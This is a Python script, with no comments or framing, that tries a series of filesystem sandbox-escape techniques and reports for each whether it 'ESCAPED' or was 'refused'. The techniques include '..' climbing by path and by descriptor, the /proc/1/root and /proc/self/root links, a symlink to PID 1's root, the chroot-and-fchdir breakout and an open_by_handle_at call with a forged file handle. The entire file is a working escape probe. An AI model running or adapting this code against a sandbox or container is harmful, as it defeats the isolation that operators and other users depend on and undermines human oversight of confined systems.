import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
inside = os.stat("/").st_ino, os.stat("/").st_dev


def look(name, way):
    try:
        found = way()
        status = os.fstat(found) if isinstance(found, int) else os.stat(found)
        escaped = (status.st_ino, status.st_dev) != inside
    except OSError:
        escaped = False
    print(name, "ESCAPED" if escaped else "refused")


def up_from_deep():
    folder = os.open("/", os.O_RDONLY)
    for _ in range(200):
        above = os.open("..", os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = above
    return folder


def chroot_escape():
    keep = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    os.fchdir(keep)
    os.chroot("../../../..")
    return "/"


os.symlink("/proc/1/root", "link")
look("dots", lambda: "/" + "../" * 100)
look("dots by descriptors", up_from_deep)
look("dots from the workspace", lambda: os.open("../" * 50, os.O_RDONLY))
look("own root", lambda: "/proc/self/root")
look("own root, then dots", lambda: "/proc/self/root/../..")
look("thread's root", lambda: f"/proc/self/task/{os.getpid()}/root/..")
look("root of PID 1", lambda: "/proc/1/root")
look("root of PID 1 by a link", lambda: "link")
look("working directory of PID 1", lambda: "/proc/1/cwd")
look("kernel thread's root", lambda: "/proc/2/root")
look("old root", lambda: "/scratch-0")
look("init", lambda: "/init")
look("world", lambda: "/world")
look("modules", lambda: "/modules")
look("chroot", chroot_escape)
look("handle", lambda: libc.open_by_handle_at(os.open("/", os.O_RDONLY), bytes([8, 0, 0, 0, 1, 0, 0, 0]) + bytes(16), 0))
print([name for name in os.listdir("/") if name.startswith("scratch") or name == "init"])
print(sorted({line.split()[4] for line in open("/proc/self/mountinfo")}))
